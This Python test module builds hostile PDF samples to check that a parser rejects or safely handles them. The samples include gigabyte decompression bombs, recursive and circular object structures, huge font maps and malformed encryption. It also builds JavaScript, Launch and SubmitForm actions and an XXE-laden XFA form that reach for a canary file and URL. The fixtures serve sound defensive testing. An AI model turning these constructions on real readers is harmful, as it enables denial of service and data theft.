"""Documents that mean harm."""

from __future__ import annotations

import zlib

from tests.corpus.documents import pdf, pdf_in_a_stream, pdf_stream
from tests.corpus.encrypted import encrypted_by, encrypted_pdf
from tests.corpus.formats import packed, zeros
from tests.corpus.hostile import CORRUPT, UNREADABLE, Canary, HostileFile, either, harmless, refused

from mindia.testing import samples

_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_FONT = b"/Resources << /Font << /F1 5 0 R >> >>"
_HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _pages(kids: bytes = b"3 0 R", *, count: bytes = b"1", entries: bytes = b"") -> bytes:
    return b"<< /Type /Pages /Kids [%b] /Count %b %b >>" % (kids, count, entries)


def _page(entries: bytes = b"", *, box: bytes = b"0 0 612 792") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [%b] %b >>" % (box, entries)


_THREE = (_CATALOG, _pages(), _page())


def _document(content: bytes, *more: bytes, entries: bytes = b"", catalog: bytes = _CATALOG) -> bytes:
    """A document of a page with this content stream, whose number is 4; the font has 5, further objects 6 and so on."""
    return pdf(catalog, _pages(), _page(b"/Contents 4 0 R %b" % (entries or _FONT)), content, _HELVETICA, *more)


def _line(text: bytes = b"A page.") -> bytes:
    return pdf_stream(b"BT /F1 18 Tf 72 720 Td (%b) Tj ET" % text)


def _flate(content: bytes, *, times: int = 1) -> bytes:
    """A stream of what was compressed so many times, most of which is not said here."""
    return pdf_stream(content, b"/Filter [%b]" % (b"/FlateDecode " * times))


def _deep_tree(depth: int) -> bytes:
    """A tree of pages with one page, at the end of so many nodes."""
    nodes = [
        b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (max(2, number - 1), number + 1)
        for number in range(2, 2 + depth)
    ]
    return pdf(_CATALOG, *nodes, _page())


def _forms(depth: int, *, width: int = 10) -> bytes:
    """A drawing that draws another one ten times, which draws another one ten times, and so on."""
    forms = [
        pdf_stream(
            b"/X Do " * width,
            b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /X %d 0 R >> >>" % (7 + number),
        )
        for number in range(depth)
    ]
    last = pdf_stream(b"BT /F1 9 Tf (ha) Tj ET", b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] " + _FONT)
    return _document(pdf_stream(b"/X Do"), *forms, last, entries=b"/Resources << /XObject << /X 6 0 R >> >>")


def _unicode_map(ranges: bytes) -> bytes:
    """A font whose codes are said to mean these characters."""
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R "
        b"/DescendantFonts [7 0 R] >>"
    )
    inner = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (A) /Ordering (B) >> >>"
    used = pdf_stream(b"BT /F1 18 Tf <0041004200430044> Tj ET")
    return pdf(_CATALOG, _pages(), _page(b"/Contents 4 0 R " + _FONT), used, font, pdf_stream(ranges), inner)


def _tables_in_circles() -> bytes:
    """Its table of objects is said to come before itself."""
    content = samples.pdf()
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % content.index(b"xref\n0 "))


def _actions(canary: Canary) -> bytes:
    """Opens, runs, sends and fetches whatever can be opened, run, sent and fetched."""
    path, url = str(canary.path).encode(), canary.url.encode()
    script = b"/S /JavaScript /JS (app.launchURL('%b'); this.importDataObject('x', '%b'); this.submitForm('%b'))" % (
        url, path, url,
    )  # fmt: skip
    launch = b"/S /Launch /F (%b) /Next << /S /URI /URI (%b) >>" % (path, url)
    remote = b"/S /GoToR /F << /Type /Filespec /FS /URL /F (%b) >> /D [0 /Fit]" % url
    submit = b"/S /SubmitForm /F << /FS /URL /F (%b) >> /Next << /S /ImportData /F (%b) >>" % (url, path)
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %b >> /AA << /WC << %b >> /DS << %b >> >> "
        b"/Names << /JavaScript << /Names [(a) << %b >>] >> >> /URI << /Base (%b) >> >>"
    ) % (script, launch, remote, script, url)
    annotations = b"/AA << /O << %b >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << %b >> >>]"
    return _document(_line(), catalog=catalog, entries=_FONT + annotations % (launch, submit))


def _elsewhere(where: bytes) -> bytes:
    """Its page is drawn by what is in another file (ISO 32000-1, 7.3.8.2, table 5)."""
    entries = b"/F << /Type /Filespec %b >> /FFilter /FlateDecode" % where
    return _document(pdf_stream(b"", entries))


def _form_of_xml(canary: Canary) -> bytes:
    """A form of XFA whose XML takes in another file."""
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE xdp [<!ENTITY a SYSTEM "file://%b"><!ENTITY b SYSTEM "%b">]><xdp:xdp '
        b'xmlns:xdp="http://ns.adobe.com/xdp/">&a;&b;</xdp:xdp>'
    ) % (str(canary.path).encode(), canary.url.encode())
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> /Metadata 6 0 R >>"
    return _document(_line(), pdf_stream(xml), catalog=catalog)


DOCUMENTS: dict[str, HostileFile] = {
    "PDF whose page unpacks to a gigabyte": either(
        "x.pdf", "application/pdf", lambda _: _document(_flate(zeros(10**9)))
    ),
    "PDF whose page unpacks twice to a gigabyte": either(
        "x.pdf", "application/pdf", lambda _: _document(_flate(zlib.compress(zeros(10**9)), times=2))
    ),
    "PDF whose page unpacks a thousand times": either(
        "x.pdf", "application/pdf", lambda _: _document(_flate(zeros(10**6), times=1_000))
    ),
    "PDF whose page is spaces for 200 MB": either(
        "x.pdf",
        "application/pdf",
        lambda _: _document(_flate(packed(b" " * 1_000_000, 200))),
    ),
    "PDF of a page of two hundred thousand letters": either(
        "x.pdf",
        "application/pdf",
        lambda _: _document(_flate(zlib.compress(b"BT /F1 9 Tf " + (b"(" + b"a" * 1_000 + b") Tj ") * 200 + b"ET"))),
    ),
    "PDF of pages in a tree of ten thousand nodes": either("x.pdf", "application/pdf", lambda _: _deep_tree(10_000)),
    "PDF whose tree of pages holds itself": refused(
        "x.pdf", lambda _: pdf(_CATALOG, _pages(b"2 0 R 2 0 R"), _page()), CORRUPT
    ),
    "PDF whose tree of pages holds the node above": either(
        "x.pdf",
        "application/pdf",
        lambda _: pdf(_CATALOG, _pages(b"3 0 R 4 0 R", count=b"3"), _page(), _pages(b"2 0 R 3 0 R", count=b"2")),
    ),
    "PDF whose nodes hold each other, many times": either(
        "x.pdf",
        "application/pdf",
        lambda _: pdf(
            _CATALOG, *[_pages(b"%d 0 R " % (number + 1) * 10, count=b"10") for number in range(2, 40)], _page()
        ),
    ),
    "PDF that says that it has 2^31 pages": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(count=b"2147483647"), _page())
    ),
    "PDF that says that it has a million pages": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(count=b"1000000"), _page())
    ),
    "PDF that says that it has 4,000 pages": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(count=b"4000"), _page())
    ),
    "PDF that says that it has -1 pages": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(count=b"-1"), _page())
    ),
    "PDF that has a page a hundred thousand times": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(b"3 0 R " * 100_000, count=b"100000"), _page())
    ),
    "PDF whose page is on 2^31 points": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(), _page(box=b"-2147483648 -1e38 2147483647 1e38"))
    ),
    "PDF whose table of objects comes before itself": either(
        "x.pdf", "application/pdf", lambda _: _tables_in_circles()
    ),
    "PDF whose table of objects is behind its end": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(), _page(), start=10**10)
    ),
    "PDF whose table of objects is said to have 2^31": either(
        "x.pdf",
        "application/pdf",
        lambda _: (
            pdf(_CATALOG, _pages(), _page())
            .replace(b"xref\n0 4", b"xref\n0 2147483647")
            .replace(b"/Size 4", b"/Size 2147483647")
        ),
    ),
    "PDF of two hundred thousand empty objects": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(), _page(), *[b"null"] * 200_000)
    ),
    "PDF whose stream is as long as itself": either(
        "x.pdf", "application/pdf", lambda _: _document(b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream")
    ),
    "PDF whose objects are in a stream": harmless("x.pdf", "application/pdf", lambda _: pdf_in_a_stream(*_THREE)),
    "PDF whose stream of objects is in itself": either(
        "x.pdf", "application/pdf", lambda _: pdf_in_a_stream(*_THREE, said=4)
    ),
    "PDF whose stream of objects is in their table": either(
        "x.pdf", "application/pdf", lambda _: pdf_in_a_stream(*_THREE, said=5)
    ),
    "PDF whose stream of objects extends itself": either(
        "x.pdf", "application/pdf", lambda _: pdf_in_a_stream(*_THREE, entries=b"/Extends 4 0 R")
    ),
    "PDF whose stream of objects has 2^31": either(
        "x.pdf", "application/pdf", lambda _: pdf_in_a_stream(*_THREE, count=2**31 - 1)
    ),
    "PDF of arrays in each other": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(), _page(b"/X " + b"[" * 100_000 + b"]" * 100_000))
    ),
    "PDF of dictionaries in each other": either(
        "x.pdf",
        "application/pdf",
        lambda _: pdf(_CATALOG, _pages(), _page(b"/X " + b"<</X " * 100_000 + b"0" + b">>" * 100_000)),
    ),
    "PDF of brackets in its page": either(
        "x.pdf", "application/pdf", lambda _: _document(pdf_stream(b"q " * 500_000 + b"[ " * 500_000))
    ),
    "PDF of a drawing that draws itself": either(
        "x.pdf",
        "application/pdf",
        lambda _: _document(
            pdf_stream(b"/X Do"),
            pdf_stream(
                b"/X Do",
                b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
            ),
            entries=b"/Resources << /XObject << /X 6 0 R >> >>",
        ),
    ),
    "PDF of drawings of drawings, ten thousand times": either("x.pdf", "application/pdf", lambda _: _forms(4)),
    "PDF of a font that is drawn by itself": either(
        "x.pdf",
        "application/pdf",
        lambda _: pdf(
            _CATALOG,
            _pages(),
            _page(b"/Contents 4 0 R " + _FONT),
            _line(b"aaaa"),
            b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 "
            b"/Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 4 0 R >> " + _FONT + b" >>",
        ),
    ),
    "PDF of a font of 2^32 characters": either(
        "x.pdf",
        "application/pdf",
        lambda _: _unicode_map(
            b"1 begincodespacerange <00000000> <ffffffff> endcodespacerange 1 beginbfrange "
            b"<00000000> <ffffffff> <0041> endbfrange"
        ),
    ),
    "PDF of a letter that means a million": either(
        "x.pdf",
        "application/pdf",
        lambda _: _unicode_map(
            b"1 begincodespacerange <0000> <ffff> endcodespacerange 1 beginbfchar <0041> <"
            + b"0041" * 1_000_000
            + b"> endbfchar"
        ),
    ),
    "PDF that opens, runs and fetches": harmless("x.pdf", "application/pdf", _actions),
    "PDF whose page is in another file": either(
        "x.pdf", "application/pdf", lambda c: _elsewhere(b"/F (%b)" % str(c.path).encode())
    ),
    "PDF whose page is on another machine": either(
        "x.pdf", "application/pdf", lambda c: _elsewhere(b"/FS /URL /F (%b)" % c.url.encode())
    ),
    "PDF of a form that takes in other files": harmless("x.pdf", "application/pdf", _form_of_xml),
    "PDF that needs a password": refused("x.pdf", lambda _: encrypted_pdf(b"secret"), CORRUPT),
    "PDF encrypted without a password": harmless("x.pdf", "application/pdf", lambda _: encrypted_pdf(b"")),
    "PDF encrypted in a way that nobody knows": refused(
        "x.pdf", lambda _: encrypted_by(b"/Filter /Evil /V 99 /R 99 /P 0 /O () /U ()"), CORRUPT
    ),
    "PDF encrypted by a dictionary without entries": refused("x.pdf", lambda _: encrypted_by(b""), CORRUPT),
    "PDF encrypted by keys of 2^31 bits": refused(
        "x.pdf",
        lambda _: encrypted_by(
            b"/Filter /Standard /V 5 /R 6 /Length 2147483647 /P -4 /O <%b> /U <%b> /OE <> /UE <> /Perms <>"
            % (b"00" * 48, b"00" * 48)
        ),
        CORRUPT,
    ),
    "PDF with a title of 5 MB": harmless(
        "x.pdf",
        "application/pdf",
        lambda _: pdf(
            _CATALOG, _pages(), _page(), b"<< /Title <feff%b> >>" % (b"d83d" * 1_200_000), trailer=b"/Info 4 0 R"
        ),
    ),
    "PDF with a title of control characters": harmless(
        "x.pdf",
        "application/pdf",
        lambda _: pdf(_CATALOG, _pages(), _page(), b"<< /Title (\\000\\033]0;\\r\\n) >>", trailer=b"/Info 4 0 R"),
    ),
    "PDF of nothing but its header": refused("x.pdf", lambda _: b"%PDF-1.7\n", CORRUPT),
    "PDF of text behind its header": refused("x.pdf", lambda _: b"%PDF-1.7\n" + b"endobj " * 100_000, CORRUPT),
    "PDF without a page": refused("x.pdf", lambda _: pdf(_CATALOG, _pages(b"", count=b"0")), CORRUPT),
    "PDF without a catalog": refused("x.pdf", lambda _: pdf(b"null", b"null"), CORRUPT),
    "PDF of a page that is a number": either(
        "x.pdf", "application/pdf", lambda _: pdf(_CATALOG, _pages(b"7", count=b"1"), b"7"), UNREADABLE
    ),
}


BUSY_DOCUMENTS: dict[str, HostileFile] = {
    "PDF of drawings of drawings, 10^12 times": refused("x.pdf", lambda _: _forms(12), UNREADABLE),
    "PDF of a thousand pages of 10 MB": either(
        "x.pdf",
        "application/pdf",
        lambda _: pdf(
            _CATALOG,
            _pages(b" ".join(b"%d 0 R" % number for number in range(5, 1_005)), count=b"1000"),
            _HELVETICA,
            _flate(packed(b" " * 1_000_000, 10)),
            *[_page(b"/Contents 4 0 R")] * 1_000,
        ),
    ),
}
"""What would keep a parser at it for long."""
